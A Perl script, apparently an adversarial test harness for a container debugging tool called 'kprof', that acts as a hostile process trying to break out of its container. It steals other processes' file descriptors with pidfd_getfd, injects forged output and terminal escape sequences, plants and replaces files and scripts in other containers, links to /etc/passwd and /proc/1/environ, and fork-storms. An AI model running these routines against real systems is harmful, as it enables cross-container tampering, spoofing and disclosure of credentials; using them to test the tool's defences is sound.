#!/usr/bin/perl
# What a process of the target does to a debug container of its own user, until /tmp/over is there: attack.pl WHAT. Says what it reached.
use strict;
use warnings;

$| = 1;
$SIG{PIPE} = 'IGNORE';
my ($what) = @ARGV;
my $noise = "\e]52;c;ZXZpbA==\a\e[2J\e]0;owned\a";
my ($pidfd_open, $pidfd_getfd) = (434, 438);
my $own = readlink '/proc/self/ns/mnt';
my %done;

sub words { open my $file, '<', "/proc/$_[0]/cmdline" or return ''; local $/; my $all = <$file> // ''; $all =~ tr/\0/ /; $all }
sub say_once { my ($text) = @_; print "$text\n" unless $done{$text}++ }
sub spill { my ($path, $text) = @_; open my $file, '>', $path or return 0; syswrite $file, $text; close $file }
sub slurp { open my $file, '<', $_[0] or return ''; local $/; <$file> // '' }
sub processes { opendir my $all, '/proc'; grep { /^\d+$/ && $_ != $$ } readdir $all }
sub ours { my ($pattern) = @_; grep { words($_) =~ $pattern } processes() }
# Those that run in another container, and let us in.
sub reached { grep { my $root = readlink "/proc/$_/ns/mnt"; defined $root && $root ne $own } processes() }

# Its open file N, as if it were ours.
sub take {
    my ($pid, $n) = @_;
    my $pidfd = syscall $pidfd_open, $pid + 0, 0;
    return if $pidfd < 0;
    my $fd = syscall $pidfd_getfd, $pidfd, $n + 0, 0;
    open(my $close, '<&=', $pidfd);
    return if $fd < 0;
    open(my $file, '>&=', $fd) or return;
    return $file;
}

# The process list names a JVM of root's.
sub forge_look {
    for my $pid (reached()) {
        next unless words($pid) =~ /run peek \d/;
        my $file = take($pid, 1) or next;
        say_once('took the output of a look');
        syswrite $file, "\n1/seen:\n1/map:libjvm.so\n1/tell:tmp writable\n1/status:Name:\tjava\n1/status:State:\tS\n1/status:PPid:\t0\n1/status:Uid:\t0\t0\t0\t0\n"
            . "1/status:Gid:\t0\t0\t0\t0\n1/status:SigCgt:\tffffffffffffffff\n1/stat:1 (java) S 0 1 1 0 -1 4 1 2 3 4 5 6 7 8 20 0 17 0 12 1 2 \n";
    }
}

# Whatever of it can be written.
sub write_files {
    for my $pid (reached()) {
        my $root = "/proc/$pid/root";
        say_once('reached a process');
        for my $path (glob("$root/tmp/kprof $root/tmp/kprof/* $root/tmp/kprof/captures/* $root/tmp/kprof/captures/*/* $root/usr/bin")) {
            (my $inside = $path) =~ s|^\Q$root\E||;
            say_once("could write $inside") if -d $path ? spill("$path/planted", 'x') : open(my $file, '>>', $path);
        }
        rename "$root/tmp/kprof", "$root/tmp/moved" and say_once('could move /tmp/kprof');
    }
}

# Sums, names and bytes of its own among those of the file that is sent.
sub forge_pull {
    for my $pid (ours(qr/^inroot .* tar /)) {
        my $file = take($pid, 2) or next;
        say_once('took the remarks of a sender');
        syswrite $file, "$noise\nkprof-crc32 00000000\nkprof-prefix 00000000\nkprof-file 12 34 56\n" x 20;
        my $bytes = take($pid, 1) or next;
        syswrite $bytes, "FLR\0forged" x 10;
    }
}

# Both streams of everything that answers.
sub flood {
    for my $pid (ours(qr{kprof/run (?:step|run|hold|pull|look)})) {
        for my $n (1, 2) {
            my $file = take($pid, $n) or next;
            say_once('took a stream');
            $file->blocking(0);
            syswrite $file, "$noise\nundone\nkprof-file 1 2 3\n" x 1000;
        }
    }
}

# Steps that have already ended well, undo of its own, and a holder that is somebody else.
sub forge_state {
    my ($pid) = ours(qr{^(?:sh|bash) \S*kprof/run supervise}) or return;
    for my $capture (glob "/proc/$pid/root/tmp/kprof/captures/*") {
        mkdir "$capture/00003.begun" or next;
        spill("$capture/00003.out", "$noise\nStopped recording \"x\", 1 kB written to:\n\n/tmp/x\n");
        spill("$capture/00003.err", $noise);
        spill("$capture/00003.code", "0\n");
        say_once('forged a step');
    }
}

sub supervisors { ours(qr{^(?:sh|bash) \S*kprof/run supervise}) }

# The debug container's script and state are ours from now on.
sub replace {
    for my $tmp (map { "/proc/$_/root/tmp" } supervisors()) {
        next if -e "$tmp/kprof/forged";
        rename "$tmp/kprof", "$tmp/moved.$$" or next;
        mkdir $_ for "$tmp/kprof", "$tmp/kprof/clients", "$tmp/kprof/captures";
        (my $printed = $noise) =~ s/([^ -~]|[%'\\])/sprintf '\\%03o', ord $1/ge;
        spill("$tmp/kprof/run", "case \$1 in list) echo '0123456789abcdef held';; look) echo 'tools jattach inroot setpriv zstd';; esac\n"
            . "while :; do printf '$printed\\nundone\\nkprof-file 1 2 3\\n'; printf '$printed\\n' >&2; done\n");
        spill("$tmp/kprof/$_", '') for 'ready', 'forged';
        say_once('replaced the folder');
    }
}

# Undo of our own, and files that say who is who; links and pipes among them.
sub plant {
    for my $dir (map { "/proc/$_/root/tmp/kprof" } supervisors()) {
        for my $capture (glob "$dir/captures/*") {
            next if -e "$capture/99999.undo" || !-e "$capture/00001.code";
            spill("$capture/99999.undo", "sleep\n600\n");
            spill("$capture/99998.undo", "sh\n-c\nprintf '%s' \"\$1\" >/proc/\$PPID/fd/1\nsh\n\e]0;owned\a\n");
            spill("$capture/99997.litter", "$noise\n" x 1000);
            system 'mkfifo', "$capture/99996.undo";
            symlink '/etc/passwd', "$capture/99995.undo";
            my ($one) = slurp('/proc/1/stat') =~ /.*\) (.*)/;
            spill("$capture/holder", '1 ' . (split ' ', $one)[19] . "\n");
            spill("$capture/orphan", "$noise\n");
            unlink "$dir/beat", "$dir/ttl", "$dir/main";
            system 'mkfifo', "$dir/beat";
            symlink '/proc/1/environ', "$dir/ttl";
            spill("$dir/main", "1 1\n$noise");
            say_once('planted');
        }
    }
}

# As many processes as it can make, of which none lives long.
sub storm {
    for (1 .. 200) { my $pid = fork; exit 0 if defined $pid && $pid == 0; waitpid $pid, 0 if $pid && $_ % 8 == 0 }
    1 while waitpid(-1, 1) > 0;
    say_once('forked');
}

use IO::Handle;
my %acts = ('forge-look' => \&forge_look, 'write' => \&write_files, 'forge-pull' => \&forge_pull, 'flood' => \&flood, 'forge-state' => \&forge_state,
    replace => \&replace, plant => \&plant, storm => \&storm);
unlink '/tmp/over';
print "begun\n";
for (my $end = time + 120; time < $end && !-e '/tmp/over';) {
    $acts{$what}->();
    select undef, undef, undef, 0.005;
}
